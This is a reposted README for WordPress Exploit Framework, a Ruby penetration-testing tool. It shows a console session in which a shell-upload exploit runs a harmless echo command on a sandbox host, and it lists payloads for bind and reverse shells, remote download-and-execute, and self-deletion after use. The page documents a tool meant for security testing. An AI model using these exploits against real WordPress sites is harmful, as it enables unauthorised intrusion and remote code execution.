Wordpress-Exploit-Framework - A Ruby framework for developing and using modules which aid in the penetration testing of WordPress powered websites and systems

A Ruby framework for developing and using modules which aid in the penetration testing of WordPress powered websites and systems.

What do I need to run it?
Ensure that you have Ruby 2.2.x installed on your system and then install all required dependencies by opening a command prompt / terminal in the WPXF folder and running bundle install .
If bundler is not present on your system, you can install it by running gem install bundler .

How do I use it?
Open a command prompt / terminal in the directory that you have downloaded WordPress Exploit Framework to, and start it by running ruby wpxf.rb .
Once loaded, you'll be presented with the wpxf prompt, from here you can search for modules using the search command or load a module using the use command.
Loading a module into your environment will allow you to set options with the setcommand and view information about the module using info .
Below is an example of how one would load the symposium_shell_upload exploit module, set the module and payload options and run the exploit against the target.
wpxf > use exploit/symposium_shell_upload

[+] Loaded module: #<Wpxf::Exploit::SymposiumShellUpload:0x3916f20>

wpxf [exploit/symposium_shell_upload] > set host wp-sandbox

[+] Set host => wp-sandbox

wpxf [exploit/symposium_shell_upload] > set target_uri /wordpress/

[+] Set target_uri => /wordpress/

wpxf [exploit/symposium_shell_upload] > set payload exec

[+] Loaded payload: #<Wpxf::Payloads::Exec:0x434d078>

wpxf [exploit/symposium_shell_upload] > set cmd echo "Hello, world!"

[+] Set cmd =>echo "Hello, world!"

wpxf [exploit/symposium_shell_upload] > run

[-] Preparing payload...
[-] Uploading the payload...
[-] Executing the payload...
[+] Result: Hello, world!
[+] Execution finished successfully
For a full list of supported commands, take a look at This Wiki Page .

What is the difference between auxiliary and exploit modules?
Auxiliary modules do not allow you to run payloads on the target machine, but instead allow you to extract information from the target, escalate privileges or provide denial of service functionality.
Exploit modules require you to specify a payload which subsequently gets executed on the target machine, allowing you to run arbitrary code to extract information from the machine, establish a remote shell or anything elsethat you want to do within the context of the web server.

What payloads are available?
  • bind_php: uploads a script thatwill bind to a specific port and allow WPXF to establish a remote shell.
  • custom: uploads and executes a custom PHP script.
  • download_exec: downloads and runs a remote executable file.
  • exec: runs a shell command on the remote server and returns the output to the WPXF session.
  • reverse_tcp: uploads a script that will establish a reverse TCP shell.
All these payloads, with the exception of custom , will delete themselves after they have been executed, to avoid leaving them lying around on the target machine after use or in the event that they are being used to establish a shell which fails.

How can I write my own modules and payloads?
Guides on writing modules and payloads can be found on The Wiki and fulldocumentation of the API can be found athttp://www.getwpxf.com/doc .

Disqus Comments